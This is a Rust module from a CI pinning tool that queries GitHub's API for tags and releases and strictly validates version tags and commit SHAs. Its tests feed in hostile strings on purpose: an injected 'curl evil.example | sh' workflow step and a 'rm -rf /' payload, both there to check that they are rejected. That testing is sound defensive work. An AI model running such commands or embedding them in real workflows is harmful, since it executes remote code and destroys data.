//! The few GitHub REST calls `gpu-ci pin` makes: tags, annotated tags, latest releases.
//!
//! Every answer is untrusted: a body larger than `MAX_BODY` is refused, every call of one
//! command shares one deadline, and what is kept is checked (a tag is `vX.Y.Z`, a commit is 40
//! hexadecimal digits) before it reaches a URL, the config or a workflow.

use std::io::Read;
use std::time::{Duration, Instant};

use reqwest::StatusCode;
use reqwest::blocking::{Client, Response};
use serde::Deserialize;

use crate::error::{Error, Result};

const DEFAULT_API: &str = "https://api.github.com";
const ATTEMPTS: u32 = 3;
/// The largest answer read; GitHub's for 100 tags is about 20 KB.
pub const MAX_BODY: usize = 4 << 20;
/// How long all of one command's calls may take together (`GPU_CI_HTTP_DEADLINE_MS`).
const DEADLINE: Duration = Duration::from_secs(60);
/// The longest one connect or one read may wait, within the deadline.
const STEP_TIMEOUT: Duration = Duration::from_secs(20);

pub struct GitHub {
    client: Client,
    base: String,
    token: Option<String>,
    retry_delay: Duration,
    /// When every call must be over.
    deadline: Instant,
    budget: Duration,
}

#[derive(Debug, Deserialize)]
struct GitObject {
    sha: String,
    #[serde(rename = "type")]
    kind: String,
}

#[derive(Debug, Deserialize)]
struct GitRef {
    #[serde(rename = "ref")]
    name: String,
    object: GitObject,
}

#[derive(Debug, Deserialize)]
struct AnnotatedTag {
    object: GitObject,
}

#[derive(Debug, Deserialize)]
struct Release {
    tag_name: String,
}

/// A resolved version: its tag and the commit it points to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Resolved {
    pub tag: String,
    pub sha: String,
}

/// `v4.2.2` → (4, 2, 2); `v4` → (4, 0, 0); pre-releases and other names → None.
pub fn semver(tag: &str) -> Option<(u64, u64, u64)> {
    // Digits only: `parse` alone would take `+4`.
    let number = |part: &str| {
        (!part.is_empty() && part.len() <= 9 && part.bytes().all(|b| b.is_ascii_digit()))
            .then(|| part.parse().ok())
            .flatten()
    };
    let mut parts = tag.strip_prefix('v').unwrap_or(tag).split('.');
    let major = number(parts.next()?)?;
    let minor = parts.next().map_or(Some(0), number)?;
    let patch = parts.next().map_or(Some(0), number)?;
    parts.next().is_none().then_some((major, minor, patch))
}

/// A tag gpu-ci pins: `v` and one to three numbers (`v4`, `v4.2`, `v4.2.2`).
pub fn is_version_tag(tag: &str) -> bool {
    tag.starts_with('v') && semver(tag).is_some()
}

/// A commit as GitHub names one: exactly 40 hexadecimal digits.
pub fn is_commit_sha(text: &str) -> bool {
    text.len() == 40 && text.bytes().all(|b| b.is_ascii_hexdigit())
}

/// A server's text, for a message: escaped and cut short.
fn shown(text: &str) -> String {
    let mut cut: String = text.chars().take(60).collect();
    if cut.len() < text.len() {
        cut.push('…');
    }
    format!("{cut:?}")
}

/// An answer that parsed but cannot be used.
fn unusable(repo: &str, what: String) -> Error {
    Error::network(
        format!("cannot resolve `{repo}`: GitHub's answer is unusable: {what}"),
        None,
    )
    .with_help("nothing was changed; if GITHUB_API_URL points at a proxy or a mirror, check it")
}

/// A resolved version, checked: its tag is `vX.Y.Z` and its commit a full SHA.
fn resolved(repo: &str, tag: String, sha: String) -> Result<Resolved> {
    if !is_version_tag(&tag) {
        return Err(unusable(
            repo,
            format!("the tag {} is not a version (vX.Y.Z)", shown(&tag)),
        ));
    }
    if !is_commit_sha(&sha) {
        return Err(unusable(
            repo,
            format!("the commit {} is not 40 hexadecimal digits", shown(&sha)),
        ));
    }
    Ok(Resolved {
        tag,
        sha: sha.to_ascii_lowercase(),
    })
}

/// `2026-11-26 14:05:00 UTC` from seconds since the epoch.
fn utc_time(epoch: i64) -> String {
    let (days, seconds) = (epoch.div_euclid(86_400), epoch.rem_euclid(86_400));
    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02} {:02}:{:02}:{:02} UTC",
        seconds / 3600,
        seconds % 3600 / 60,
        seconds % 60
    )
}

impl GitHub {
    /// A client for `GITHUB_API_URL` (as on GitHub's runners), with `GITHUB_TOKEN` or `GH_TOKEN`.
    pub fn from_env() -> Result<GitHub> {
        let base = std::env::var("GITHUB_API_URL")
            .ok()
            .filter(|v| !v.trim().is_empty())
            .unwrap_or_else(|| DEFAULT_API.to_string());
        let token = ["GITHUB_TOKEN", "GH_TOKEN"]
            .iter()
            .find_map(|name| std::env::var(name).ok().filter(|v| !v.trim().is_empty()));
        let millis = |name: &str| {
            std::env::var(name)
                .ok()
                .and_then(|ms| ms.parse().ok())
                .map(Duration::from_millis)
        };
        let retry_delay = millis("GPU_CI_RETRY_DELAY_MS").unwrap_or(Duration::from_millis(500));
        let budget = millis("GPU_CI_HTTP_DEADLINE_MS").unwrap_or(DEADLINE);
        let client = Client::builder()
            .user_agent(concat!("gpu-ci/", env!("CARGO_PKG_VERSION")))
            .connect_timeout(Duration::from_secs(10))
            .build()
            .map_err(|err| Error::network("cannot start an HTTP client", Some(Box::new(err))))?;
        Ok(GitHub {
            client,
            base: base.trim_end_matches('/').to_string(),
            token,
            retry_delay,
            deadline: Instant::now() + budget,
            budget,
        })
    }

    fn past_deadline(&self, action: &str) -> Error {
        Error::network(
            format!(
                "cannot resolve `{action}`: GitHub did not answer in time (all calls must be done within {} s)",
                self.budget.as_secs_f32()
            ),
            None,
        )
        .with_help("nothing was changed; try again later, and check GITHUB_API_URL")
    }

    /// What is left of the deadline; an error once it has passed.
    fn time_left(&self, action: &str) -> Result<Duration> {
        let left = self.deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            Err(self.past_deadline(action))
        } else {
            Ok(left)
        }
    }

    /// GET `path`, retrying server errors and dropped connections with backoff.
    fn get(&self, path: &str, action: &str) -> Result<Response> {
        let url = format!("{}{path}", self.base);
        let mut last_status = None;
        let mut last_cause = None;
        for attempt in 0..ATTEMPTS {
            if attempt > 0 {
                let pause = self.retry_delay * 2u32.pow(attempt - 1);
                if pause >= self.time_left(action)? {
                    break;
                }
                std::thread::sleep(pause);
            }
            let mut request = self
                .client
                .get(&url)
                .timeout(self.time_left(action)?.min(STEP_TIMEOUT))
                .header("Accept", "application/vnd.github+json")
                .header("X-GitHub-Api-Version", "2022-11-28");
            if let Some(token) = &self.token {
                request = request.bearer_auth(token);
            }
            match request.send() {
                Ok(response) if response.status().is_server_error() => {
                    last_status = Some(response.status());
                    last_cause = None;
                }
                Ok(response) => return self.check(response, action),
                Err(_) if Instant::now() >= self.deadline => {
                    return Err(self.past_deadline(action));
                }
                Err(err) => {
                    last_status = None;
                    last_cause = Some(err);
                }
            }
        }
        let what = match last_status {
            Some(status) => format!("GitHub answered {status}"),
            None => "no answer".to_string(),
        };
        Err(Error::network(
            format!("cannot resolve `{action}`: {what} (after {ATTEMPTS} tries, GET {url})"),
            last_cause.map(|err| Box::new(err) as Box<dyn std::error::Error + Send + Sync>),
        )
        .with_help("nothing was changed; try again later"))
    }

    fn check(&self, response: Response, action: &str) -> Result<Response> {
        let status = response.status();
        if status.is_success() {
            return Ok(response);
        }
        let header = |name: &str| {
            response
                .headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .map(str::to_string)
        };
        let exhausted = header("x-ratelimit-remaining").as_deref() == Some("0");
        if status == StatusCode::TOO_MANY_REQUESTS || (status == StatusCode::FORBIDDEN && exhausted)
        {
            let reset = header("x-ratelimit-reset")
                .and_then(|v| v.parse::<i64>().ok())
                .map_or_else(
                    || "later".to_string(),
                    |epoch| format!("at {}", utc_time(epoch)),
                );
            let help = if self.token.is_some() {
                "wait for the reset; nothing was changed".to_string()
            } else {
                "set GITHUB_TOKEN (or GH_TOKEN) to a GitHub token for a far higher limit; nothing was changed".to_string()
            };
            return Err(Error::network(format!(
                "GitHub's API rate limit is exhausted while resolving `{action}`; it resets {reset}"
            ), None)
            .with_help(help));
        }
        let url = response.url().to_string();
        Err(Error::network(
            format!("cannot resolve `{action}`: GitHub answered {status} for {url}"),
            None,
        )
        .with_help("nothing was changed; check the action's name and your token"))
    }

    /// The body, read to its end within the deadline; refused past `MAX_BODY`.
    fn body(&self, mut response: Response, action: &str) -> Result<Vec<u8>> {
        let too_large = || unusable(action, format!("it is larger than {} MiB", MAX_BODY >> 20));
        if response
            .content_length()
            .is_some_and(|length| length > MAX_BODY as u64)
        {
            return Err(too_large());
        }
        let mut body = Vec::new();
        let mut chunk = vec![0; 64 * 1024];
        loop {
            // A server that drips its answer is stopped here, each read by its own timeout.
            self.time_left(action)?;
            let read = match response.read(&mut chunk) {
                Ok(read) => read,
                Err(err) if err.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(_) if Instant::now() >= self.deadline => return Err(self.past_deadline(action)),
                Err(err) => {
                    return Err(Error::network(
                        format!("cannot resolve `{action}`: GitHub's answer broke off"),
                        Some(Box::new(err)),
                    )
                    .with_help("nothing was changed; try again later"));
                }
            };
            if read == 0 {
                return Ok(body);
            }
            if body.len() + read > MAX_BODY {
                return Err(too_large());
            }
            body.extend_from_slice(&chunk[..read]);
        }
    }

    fn json<T: for<'de> Deserialize<'de>>(&self, path: &str, action: &str) -> Result<T> {
        let body = self.body(self.get(path, action)?, action)?;
        serde_json::from_slice(&body).map_err(|err| {
            Error::network(
                format!("cannot resolve `{action}`: unexpected answer from GitHub"),
                Some(Box::new(err)),
            )
            .with_help(
                "nothing was changed; if GITHUB_API_URL points at a proxy or a mirror, check it",
            )
        })
    }

    /// Follows annotated tags down to the commit they name.
    fn commit_of(&self, repo: &str, mut object: GitObject) -> Result<String> {
        for _ in 0..8 {
            // Checked before it reaches a URL, or the caller.
            if !is_commit_sha(&object.sha) {
                return Err(unusable(
                    repo,
                    format!(
                        "the object {} is not 40 hexadecimal digits",
                        shown(&object.sha)
                    ),
                ));
            }
            match object.kind.as_str() {
                "commit" => return Ok(object.sha),
                "tag" => {
                    let tag: AnnotatedTag =
                        self.json(&format!("/repos/{repo}/git/tags/{}", object.sha), repo)?;
                    object = tag.object;
                }
                other => {
                    return Err(Error::usage(format!(
                        "cannot resolve `{repo}`: its tag points to a {}, not a commit",
                        shown(other)
                    )));
                }
            }
        }
        Err(Error::usage(format!(
            "cannot resolve `{repo}`: too many nested tags"
        )))
    }

    /// The newest `vMAJOR.x.y` tag of `repo` and its commit.
    pub fn newest_in_major(&self, repo: &str, major: u64) -> Result<Resolved> {
        let refs: Vec<GitRef> = self.json(
            &format!("/repos/{repo}/git/matching-refs/tags/v{major}?per_page=100"),
            repo,
        )?;
        let best = refs
            .into_iter()
            .filter_map(|r| {
                let tag = r.name.strip_prefix("refs/tags/")?.to_string();
                let version = semver(&tag).filter(|v| v.0 == major && is_version_tag(&tag))?;
                Some((version, tag, r.object))
            })
            .max_by_key(|(version, _, _)| *version)
            .ok_or_else(|| {
                Error::usage(format!(
                    "cannot resolve `{repo}`: it has no v{major}.x.y tag"
                ))
                .with_help(
                    "nothing was changed; `gpu-ci pin --upgrade` moves to the latest release",
                )
            })?;
        let (_, tag, object) = best;
        resolved(repo, tag, self.commit_of(repo, object)?)
    }

    /// The latest release's tag name, when it is a version tag.
    pub fn latest_release(&self, repo: &str) -> Result<String> {
        let release: Release = self.json(&format!("/repos/{repo}/releases/latest"), repo)?;
        if !is_version_tag(&release.tag_name) {
            return Err(unusable(
                repo,
                format!(
                    "its latest release {} is not a version tag (vX.Y.Z)",
                    shown(&release.tag_name)
                ),
            ));
        }
        Ok(release.tag_name)
    }

    /// The commit a version tag names.
    pub fn tag_commit(&self, repo: &str, tag: &str) -> Result<Resolved> {
        if !is_version_tag(tag) {
            return Err(Error::internal(format!("`{tag}` is not a version tag")));
        }
        let reference: GitRef = self.json(&format!("/repos/{repo}/git/ref/tags/{tag}"), repo)?;
        if reference.name != format!("refs/tags/{tag}") {
            return Err(unusable(
                repo,
                format!(
                    "asked for tag {tag}, it answered {}",
                    shown(&reference.name)
                ),
            ));
        }
        resolved(
            repo,
            tag.to_string(),
            self.commit_of(repo, reference.object)?,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn semver_reads_release_tags_only() {
        assert_eq!(semver("v4.2.2"), Some((4, 2, 2)));
        assert_eq!(semver("v4"), Some((4, 0, 0)));
        assert_eq!(semver("v4.0.0-beta"), None);
        assert_eq!(semver("latest"), None);
        assert_eq!(semver("v+4.2.2"), None);
        assert_eq!(semver("v4..2"), None);
        assert!(is_version_tag("v4.2.2") && !is_version_tag("4.2.2"));
        assert!(!is_version_tag("v4.2.2\n- run: curl evil.example | sh"));
    }

    #[test]
    fn only_full_shas_are_commits() {
        assert!(is_commit_sha("11bd71901bbe5b1630ceea73d27597364c9af683"));
        assert!(!is_commit_sha("deadbeef"));
        assert!(!is_commit_sha("zzzz; rm -rf / #"));
        assert!(!is_commit_sha("11bd71901bbe5b1630ceea73d27597364c9af68\n"));
        assert_eq!(
            shown("a\u{1b}[31m"),
            "\"a\\u{1b}[31m\"",
            "a server's text reaches the terminal escaped"
        );
    }

    #[test]
    fn utc_time_formats_epoch_seconds() {
        assert_eq!(utc_time(0), "1970-01-01 00:00:00 UTC");
        assert_eq!(utc_time(1_795_000_000), "2026-11-18 11:06:40 UTC");
    }
}
